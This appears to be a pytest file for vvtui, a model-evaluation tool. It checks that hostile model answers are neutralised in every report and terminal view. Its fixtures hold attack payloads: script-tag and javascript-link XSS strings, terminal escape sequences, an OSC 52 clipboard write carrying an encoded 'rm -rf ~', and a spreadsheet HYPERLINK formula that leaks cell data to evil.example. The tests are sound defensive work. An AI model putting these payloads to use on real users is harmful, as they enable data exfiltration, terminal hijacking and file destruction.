"""One hostile answer through every output vvtui writes or prints: none of its tricks may come
out live (vvtui.untrusted, docs/reliability.md "Untrusted text").

The answer carries HTML, Markdown table and link breakers, a `javascript:` link, OSC window-title
and clipboard sequences, a clear-screen, colour codes and a C1 CSI; another endpoint answers
with a leading `=HYPERLINK(…)`, and a third fails with the same sequences in its error message.
"""

from __future__ import annotations

import io
import re
import xml.etree.ElementTree as ET

import pytest

from vvtui.model import EndpointInfo, ErrorInfo, Probe, RunInfo, Snapshot
from vvtui.reports.csv_report import render_csv
from vvtui.reports.gates import Gates, evaluate_gates
from vvtui.reports.html import render_html
from vvtui.reports.junit import junit_xml
from vvtui.reports.markdown import render_markdown
from vvtui.reports.table import endpoint_table
from vvtui.runner.events import ResultReady, RunFinished, RunStarted
from vvtui.scoring import score_snapshot
from vvtui.sim.synthetic import make_result
from vvtui.untrusted import is_neutral, neutralise, shown

OSC_TITLE = "\x1b]0;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4K\x07"
CLEAR = "\x1b[2J\x1b[H"
COLOUR = "\x1b[31mred\x1b[0m"
C1_CSI = "\x9b1m"
HOSTILE_TOKENS = [
    "<script>alert(1)</script>",
    " | cell | ",
    "[click](javascript:alert(1))",
    " <a href='javascript:alert(2)'>x</a>",
    OSC_TITLE,
    OSC_CLIPBOARD,
    CLEAR,
    COLOUR,
    C1_CSI,
    "\r\x00\x08 end",
]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
LIVE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def hostile_snapshot() -> Snapshot:
    eps = [
        EndpointInfo("ref", "m", "http://x/ref/v1", reference=True),
        EndpointInfo("hostile", "m", "http://x/h/v1", labels={"note": OSC_TITLE}),
        EndpointInfo("sheet", "m", "http://x/s/v1"),
        EndpointInfo("broken", "m", "http://x/b/v1"),
    ]
    probes = [
        Probe(id=f"p{i}", messages=[{"role": "user", "content": "hi"}], answer="fine")
        for i in range(6)
    ]
    results = []
    for p in probes:
        results.append(make_result("ref", p.id, ["The", " answer", " is", " fine", "."]))
        results.append(make_result("hostile", p.id, HOSTILE_TOKENS))
        results.append(make_result("sheet", p.id, [FORMULA]))
        failed = make_result("broken", p.id, [], ttft_s=None, finish_reason=None)
        failed.error = ErrorInfo("http", f"HTTP 502: {OSC_CLIPBOARD}{CLEAR}{COLOUR}", 502)
        results.append(failed)
    snap = Snapshot(
        "0.1.0",
        "2025-01-01T00:00:00+00:00",
        RunInfo(seed=1, suites=["quick"], complete=True, command="run"),
        eps,
        probes,
        results,
    )
    snap.scores = score_snapshot(snap).to_dict()
    return snap


@pytest.fixture(scope="module")
def snap() -> Snapshot:
    return hostile_snapshot()


def assert_inert(text: str) -> None:
    found = LIVE.findall(text.replace("\r\n", "\n"))
    assert not found, f"live control characters: {sorted(set(found))!r}"


def test_the_helper():
    assert neutralise(OSC_TITLE) == "\\x1b]0;pwned\\x07"
    assert neutralise("a\nb\tc\r") == "a\nb\tc\\x0d"
    assert neutralise(C1_CSI) == "\\x9b1m"
    assert neutralise("") == "" and is_neutral(neutralise("".join(HOSTILE_TOKENS)))
    assert shown("key sk-abcdefghijklmnopqrstuvwx\x1b[2J") == "key [REDACTED]\\x1b[2J"


def test_markdown(snap: Snapshot):
    md = render_markdown(snap)
    assert_inert(md)
    # Visible, so a reader sees what the host sent (Markdown escapes the backslash and bracket).
    assert "\\\\x1b\\]0;pwned" in md
    assert "<script>" not in md and "<a href" not in md
    # The link's brackets are escaped: no unescaped "](javascript:" a renderer would follow.
    assert not re.search(r"(?<!\\)\]\(javascript:", md)
    # Table rows keep their column count: a | in an answer is escaped.
    assert "\\| cell \\|" in md and " | cell | " not in md


def test_html_and_its_svg(snap: Snapshot):
    page = render_html(snap)
    assert_inert(page)
    assert "<script>alert" not in page
    assert "href='javascript:" not in page and 'href="javascript:' not in page
    assert "\\x1b[2J" in page


@pytest.mark.parametrize("level", ["results", "endpoints"])
def test_csv(snap: Snapshot, level: str):
    text = render_csv(snap, level)
    assert_inert(text)
    if level == "results":
        import csv

        rows = list(csv.DictReader(io.StringIO(text)))
        sheet = [r for r in rows if r["endpoint"] == "sheet"]
        assert sheet and all(r["text"] == "'" + FORMULA for r in sheet)
        hostile = next(r for r in rows if r["endpoint"] == "hostile")
        assert "\\x1b]52;c;" in hostile["text"]


def test_junit(snap: Snapshot):
    gates = evaluate_gates(snap, Gates(min_fidelity=90.0, max_ttft_ms=None, max_cost_usd=None))
    xml = junit_xml(snap, gates)
    assert_inert(xml)
    ET.fromstring(xml)  # XML 1.0 could not even hold the raw characters


def test_snapshot_json_keeps_the_exact_text(snap: Snapshot):
    import json

    from vvtui.storage import snapshot_json

    data = json.loads("".join(snapshot_json(snap)))
    texts = [r["text"] for r in data["results"] if r["endpoint"] == "hostile"]
    assert texts[0] == "".join(HOSTILE_TOKENS)


def test_headless_output(snap: Snapshot):
    from vvtui.cli.headless import Progress, answered_nothing

    stream = io.StringIO()
    progress = Progress(stream=stream)
    progress(RunStarted(total=len(snap.results), per_endpoint={"broken": 6}))
    for i, r in enumerate(snap.results, 1):
        progress(ResultReady(r, i, len(snap.results)))
    progress(RunFinished(cancelled=False, done=len(snap.results), total=len(snap.results)))
    out = stream.getvalue()
    assert_inert(out)
    assert "broken: HTTP error 502 ×6: HTTP 502: \\x1b]52;c;" in out
    assert_inert(endpoint_table(snap))
    assert_inert("\n".join(answered_nothing(snap)))


def test_the_tui_document_and_view(snap: Snapshot):
    from vvtui.tui.document import LiveText, build_result_doc
    from vvtui.tui.state import RunModel

    model = RunModel.from_snapshot(snap)
    for slot, result in model.results.items():
        doc = build_result_doc(result, model.comparison(*slot))
        assert_inert(doc.text)
        assert_inert(model.slot_status(slot).detail)
    live = LiveText()
    from vvtui.clients.events import TextDelta

    for token in HOSTILE_TOKENS:
        live.feed(TextDelta(0.0, token))
    assert_inert(live.text)
    trouble = model.trouble("broken")
    assert trouble is not None and "HTTP error 502 ×6" in trouble[0]


async def test_the_tui_screenshot_svg(snap: Snapshot, tmp_path):
    from tests.tuitools import replay_app

    app = replay_app(tmp_path, snap)
    async with app.run_test(size=(120, 36)) as pilot:
        await pilot.pause()
        for _ in range(3):
            await pilot.press("down")  # next probes, other answers
            await pilot.pause()
        svg = app.export_screenshot()
    assert_inert(svg)
